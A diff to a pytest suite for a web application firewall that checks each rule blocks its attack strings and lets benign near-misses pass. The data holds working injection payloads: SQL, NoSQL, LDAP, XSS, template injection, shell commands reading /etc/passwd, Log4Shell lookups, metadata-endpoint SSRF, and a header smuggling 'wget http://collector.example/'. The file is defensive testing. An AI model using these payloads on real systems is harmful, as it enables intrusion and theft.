@@ -7,43 +7,83 @@ from urllib.parse import quote
 
 import pytest
 from engine import Engine
-from messages import Message, get, post
+from messages import HOST, Message, get, post
 from rule_sets import core
 
 FORM = "application/x-www-form-urlencoded"
-VERDICT, SET_UP = 10900, {10000, 10001, 10002}
+VERDICT, SET_UP = 10900, {10000, 10001, 10002, 10003, 10004}
 MESSAGE = {10100, 10101, 10110, 10111, 10112, 10410}
+ELSEWHERE = {10120, 10205, 10304, 10310, 10403, 10505, 10700}
+"""Rules that look neither at the message as a whole nor at the value of an argument."""
 ATTACKS: Mapping[int, tuple[bytes, ...]] = {
     10102: (b"a\0b",),
     10103: (b"x\r\nSet-Cookie: a=b", b"x\nLocation: http://collector.example"),
+    10104: (b"\r\nRCPT TO: <a@b.example>", b"x\nQUIT\r\n", b"\r\nV1 CAPABILITY"),
+    10121: (b"http://a1b2.oast.fun/", b"x@y.burpcollaborator.net"),
     10200: (b"../../a", b"..\\..\\a", b"\xc0\xae\xc0\xae/a", b"..%252f..%252fa"),
     10201: (b"/etc/passwd", b"C:\\windows\\x", b"/x/.git/config", b"/proc/self/environ"),
     10202: (b"..\xc1\x9cetc\xc1\x9cpasswd", b"..0x5cwindows0x5csystem32", b"..%bg%qfboot.ini"),
     10203: (b"..0x2f..0x2fa", b"..\xc1\x1c..\xc1\x1ca", b"\xc0\x5e\xc0\x5e/a"),
+    10204: (b"/etc/apache2/sites", b"/var/log/nginx/error.log", b"C:\\inetpub\\a", b"\\\\::1\\c$"),
     10300: (b"1' or '1'='1", b"x' union select 1,2--"),
     10301: (b"1 UNION ALL SELECT 2", b"1;select pg_sleep(9)", b"select @@version"),
     10302: (b" OR 1=0", b"x and 3=3", b"' || 'a"),
+    10303: (
+        b"1) and json_depth('{}') != 2",
+        b"a' ; drop table users",
+        b"admin'; -- -",
+        b"1 /*!or*/ 1",
+    ),
+    10311: (b"true, $where: '1'", b"{ $ne: 1 }", b"' && this.password", b"db.a.drop()"),
+    10320: (b"(&(uid=a)(!(b=c", b"*(|(mail=*))", b"*)(uid=*))(|(uid=*", b"a:2.5.13.18.1:=1"),
     10400: (b"<img src=x onerror=alert(1)>",),
     10401: (b"<script>alert(1)</script>", b"javascript:alert(1)", b"<b onauxclick=x>"),
+    10402: (b"alert.call(null,1)", b"';alert`1`//", b"top['al']('1')", b"(confirm)(1)"),
+    10420: (b'<!--#exec cmd="ls" -->', b"<esi:include src=x>"),
     10500: (b";cat /etc/hostname", b"|whoami", b"`id`", b"$(echo a)", b"&& dir C:\\", b";env;"),
     10501: (b"() { :;}; echo a",),
     10502: (b"${jndi:ldap://a/b}", b"${${a:-j}${b:-n}di:x}", b"${\\u006andi:a}"),
     10503: (b"<?php echo 1;", b"eval('a')", b"{{7*7}}", b"phpinfo()", b"$_GET['a']"),
     10504: (b"a$IFS$9b", b"a${#b}", b"$((2*21))"),
+    10506: (b"; cat /et'c/pa'ss'wd", b";c\\at /x", b"|getent hosts a.example", b"& reg add x"),
+    10510: (
+        b"{{7*7}}",
+        b"${T(java.lang.System)}",
+        b"<#assign a=1>",
+        b"{{''.__class__}}",
+        b"#{3*3}",
+    ),
     10600: (b"http://169.254.169.254/", b"php://filter/a", b"http://localhost:8080/", b"file:///a"),
 }
 """Each as an argument of a form."""
 NEAR: Mapping[int, tuple[str, ...]] = {
     10103: ("a\r\nb: c", "Location: Berlin"),
+    10104: ("From: a\r\nTo: b\r\n\r\nHello", "MAIL FROM home", "quit smoking\n"),
+    10121: ("interact. Shall we?", "a coast.fun day"),
     10200: ("wait... / what", "1../2", "a..b/c"),
     10201: ("see etc/passwords.md", "windows and doors", "a.gitignore"),
     10202: ("etc. and hosts", "windows for system32 engineers", "reboot.ini"),
     10203: ("well.. ok / fine", "really?? / yes", "Àé.. où ça"),
+    10204: (
+        "/home/ann",
+        "/users/7",
+        "see /etc/hosts",
+        "/var/tables",
+        "c: drive",
+        "//cdn.example/a",
+    ),
     10300: ("O'Brien's and Smith's", "it's 1 or 2"),
     10301: ("the union selects a new board", "I sleep (a lot)", "select a user"),
     10302: ("1 or 2 = both", "where is it?", "this || that", "order by phone"),
+    10303: ("we update the 'set' and go; -- not", "grant (and length)", "he said 'no'; fine"),
+    10311: ("costs $in: 5", "{{ name }}", "the db.users table", "it's && that's"),
+    10320: ("f(x) (y = 2", "(a & b)", "smile :) (or = not)", "5 * (3 + 4)"),
     10401: ("JavaScript: an introduction", "a < script", "look on=off"),
     10500: ("cats & dogs", "salt;pepper;cat;ears", "Smith & Echo Ltd", "A & NC - B"),
+    10402: ("an alert (red)", "Confirm (yes/no)", "the top [3] (of 5)", "document is ready"),
+    10420: ("<!-- include -->", "#exec"),
+    10506: ("cat and/or dog", "& rename it", "I'm - well -", "''italic'' - and"),
+    10510: ("{{ price }}", "${name}", "a*b + 3*4", "{% if user %}", "class names"),
     10502: ("${HOME} costs $5", "${PORT:-8080}"),
     10503: ("evaluate (this)", "our system (the band)", "{{ name }}"),
     10504: ("costs $(5)", "(IFS) standards"),
@@ -120,8 +160,53 @@ def test_plain_xml_passes(engine: Engine) -> None:
         assert not found.blocked, (body, found)
 
 
+def test_rules_about_other_parts_see_theirs(engine: Engine) -> None:
+    agent = ("User-Agent", "sqlmap/1.7#stable")
+    for rule, attack in (
+        (10120, get("/", agent)),
+        (10205, get("/app/config.php.bak")),
+        (10205, get("/.svn/entries")),
+        (10304, get("/?a'%20or%20'1'=1")),
+        (10310, get("/?password[$ne]=1")),
+        (10310, post("/", "application/json", b'{"a": {"$gt": ""}}')),
+        (10403, get("/?%3Cimg%20src%20onerror=x")),
+        (10505, get("/a;cat%20/x/y")),
+        (10505, get("/", ("X-Name", "a;wget http://collector.example/"))),
+        (10700, post("/", "text/plain", b"a ; cat /etc/passwd")),
+    ):
+        found = engine.ask(attack)
+        assert found.blocked, (rule, found)
+        assert rule in found.rules, (rule, found)
+
+
+def test_they_let_near_misses_pass(engine: Engine) -> None:
+    for message in (
+        get("/", ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:1.0) PHP/8; curl/8.5")),
+        get("/src/config.py"),
+        get("/downloads/schema.sql"),
+        get("/?price[$]=1&sort=$name&$filter=a%20eq%20b"),
+        get("/?rock'n'roll=1"),
+        get("/cats;dogs"),
+        post(
+            "/", "text/plain", b"The union wants to select a new board from its members; see /etc."
+        ),
+        post("/", "text/csv", b"id;name\r\n1;O'Brien & Sons\r\n" * 2000),
+        Message(b"POST", b"/", (HOST, (b"Content-Length", b"11")), b"a=bread&c=d"),
+    ):
+        found = engine.ask(message)
+        assert not found.blocked, (message.target, found)
+
+
+def test_a_body_that_says_nothing_of_its_kind_is_read_as_a_form(engine: Engine) -> None:
+    body = b"id=1'%20union%20select%202--"
+    size = (b"Content-Length", str(len(body)).encode())
+    found = engine.ask(Message(b"POST", b"/", (HOST, size), body))
+    assert found.blocked
+    assert 10301 in found.rules
+
+
 def test_every_rule_is_tested() -> None:
     from ostiary_guard import waf  # noqa: PLC0415  it is not everywhere
 
     every = {rule["id"] for rule in waf.RuleSet(core=True).rules}
-    assert every == {*ATTACKS, *SET_UP, VERDICT, *MESSAGE}
+    assert every == {*ATTACKS, *SET_UP, VERDICT, *MESSAGE, *ELSEWHERE}
